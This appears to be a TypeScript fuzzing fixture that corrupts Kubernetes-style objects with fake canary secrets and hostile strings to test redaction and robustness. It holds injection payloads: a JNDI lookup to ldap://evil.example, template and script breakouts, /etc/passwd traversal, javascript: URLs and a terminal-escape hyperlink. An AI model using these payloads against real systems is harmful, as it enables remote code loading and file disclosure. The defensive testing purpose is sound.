/** Clusters in which every text, name and number may be anything. The same seed gives the same cluster. */
import type { RawObject } from '../../src/model/raw-object.ts';
import { attack, breakOut } from '../providers/conformance/hostile.ts';

/** Numbers from 0 to 1, the same for the same seed (mulberry32). */
export function chance(seed: number): () => number {
  let state = seed >>> 0;
  return () => {
    state = (state + 0x6d2b79f5) >>> 0;
    let mixed = Math.imul(state ^ (state >>> 15), 1 | state);
    mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed)) ^ mixed;
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 4_294_967_296;
  };
}

type Chance = ReturnType<typeof chance>;
const oneOf = <T>(list: readonly [T, ...T[]], next: Chance): T => list[Math.floor(next() * list.length)] ?? list[0];

/** What nobody may ever read. Each is told in the way of one family of secrets. */
export const canaries: readonly [string, ...string[]] = [
  'hunter2Kanarie81x',
  'eyJhbGciOiJIUzI1NiJ9.eyJrYW5hcmllIjoiODF4In0.c2lnbmF0dXJla2FuYXJpZTgx',
  'ghp_kAnArIe81kAnArIe81kAnArIe81kAnArIe81',
  'MIIEvkanarie81QIBADANBgkqhkiG9w0BAQEFAASC',
];
const [password, webToken, forgeToken, keyLine] = canaries;
const secrets: readonly [string, ...string[]] = [
  `password=${password}`,
  `DB_PASSWORD: "${password}"`,
  `{"api_key":"${password}","user":"x"}`,
  `postgres://shop:${password}@db.shop:5432/orders`,
  `curl -u shop:${password} https://x.example/`,
  `--token ${password}`,
  `Authorization: Bearer ${webToken}`,
  `token ${forgeToken} was refused`,
  `-----BEGIN ${'PRIVATE'} KEY-----\n${keyLine}\n${keyLine}\n-----END ${'PRIVATE'} KEY-----`,
];

const plain: readonly [string, ...string[]] = [
  '',
  ' ',
  '0',
  '__proto__',
  'constructor',
  'toString',
  'undefined',
  'NaN',
  '-1',
  '9'.repeat(400),
  'a'.repeat(5_000),
  '世'.repeat(2_000),
  '👩‍👩‍👧'.repeat(500),
  'e\u0301'.repeat(2_000),
  '\ud800 half \udc00',
  'zero\u200bwidth\u2060\ufeffjoined',
  '\u202egnp.exe\u2066 over\u2069\u061c',
  '\u001b[31mred\u001b[0m \u001b]8;;https://evil.example\u0007click\u001b]8;;\u0007',
  '\u0000\u0001\u0007\b\u007f\u0085\u2028\u2029',
  'line\r\nline\rline\n\n\n\n\nline',
  '%s %n %x \u0024{jndi:ldap://evil.example/x} {{7*7}} {% raw %} #{x} <%= x %>',
  '../../etc/passwd\\..\\x',
  '[[[[[[[[((((((((<<<<<<<<********________~~~~~~~~````````',
  ']]>--><!--</script></style></textarea>"\'',
  'javascript:alert(1) data:text/html;base64,PHNjcmlwdD4= file:///etc/passwd',
  '2026-11-20T09:00:00Z',
];

/** A text that somebody may have written. `huge`: now and then a megabyte. */
export function hostileText(next: Chance, huge = false): string {
  if (huge && next() < 0.004) return `${attack} ${'x<&*_`@'.repeat(150_000)} ${secrets[0]}`;
  const count = 1 + Math.floor(next() * 3);
  const words = Array.from({ length: count }, () => {
    const which = next();
    if (which < 0.3) return oneOf(secrets, next);
    if (which < 0.6) return oneOf([attack, ...attack.split('\n'), breakOut], next);
    return oneOf(plain, next);
  });
  return words.join(oneOf([' ', '\n', ': ', ' — '], next));
}

/** A value of any type. */
const anything = (next: Chance): unknown => {
  const values: readonly unknown[] = [
    ...[null, true, false, 0, -1, 1.5, -0, 2 ** 53, -(2 ** 63), 1e308, Number.POSITIVE_INFINITY, '', [], {}],
    ...['NaN', '1', '-1', 'not a time', '0000-00-00T00:00:00Z', '+275760-09-13T00:00:00.000Z', '1970-01-01T00:00:00Z'],
    ...['9999-12-31T23:59:59Z', [[[]]], [null], { a: null }, JSON.parse('{"__proto__":{"polluted":true}}')],
    hostileText(next),
  ];
  return values[Math.floor(next() * values.length)];
};

/** What stays as it is, or nobody would know the object again. */
const structural = new Set(['apiVersion', 'kind', 'uid', 'creationTimestamp', 'name', 'namespace', 'resourceVersion']);
/** Where the API lets anybody write anything. */
const free = new Set(['message', 'note', 'reason', 'annotations', 'description', 'value', 'args', 'command']);

/** How an object is spoilt: its free texts, or anything of it. */
export type Spoiling = 'texts' | 'anything';

const isTime = (text: string): boolean => /^\d{4}-\d\d-\d\dT/.test(text);

function spoilt(value: unknown, key: string, how: Spoiling, next: Chance): unknown {
  if (structural.has(key)) return value;
  if (how === 'anything' && next() < 0.06) return anything(next);
  if (typeof value === 'string') {
    if (!free.has(key) || isTime(value) || next() < 0.4) return value;
    // Most of what is found is found by its words.
    return key === 'reason' ? value : `${value} ${hostileText(next, true)}`;
  }
  if (Array.isArray(value)) return value.map((item: unknown) => spoilt(item, key, how, next));
  if (typeof value !== 'object' || value === null) return value;
  return Object.fromEntries(Object.entries(value).map(([name, item]) => [name, spoilt(item, name, how, next)]));
}

const withMore = (known: unknown, more: object): unknown =>
  Object.fromEntries([...Object.entries(Object(known)), ...Object.entries(more)]);

/** The object with some of its texts or values replaced, and with labels and annotations of any kind. */
export function spoil(raw: RawObject, how: Spoiling, next: Chance): RawObject {
  const { metadata, ...rest } = raw;
  // The API server takes no other characters in the names of labels.
  const name = oneOf(['__proto__', 'constructor', 'toString', 'x.example/y', 'hasOwnProperty'], next);
  const extra = Object.fromEntries(next() < 0.5 ? [[name, hostileText(next, true)]] : []);
  const { labels, annotations } = metadata;
  return {
    ...raw,
    ...Object.fromEntries(Object.entries(rest).map(([name, item]) => [name, spoilt(item, name, how, next)])),
    metadata: { ...metadata, labels: withMore(labels, extra), annotations: withMore(annotations, extra) },
  };
}
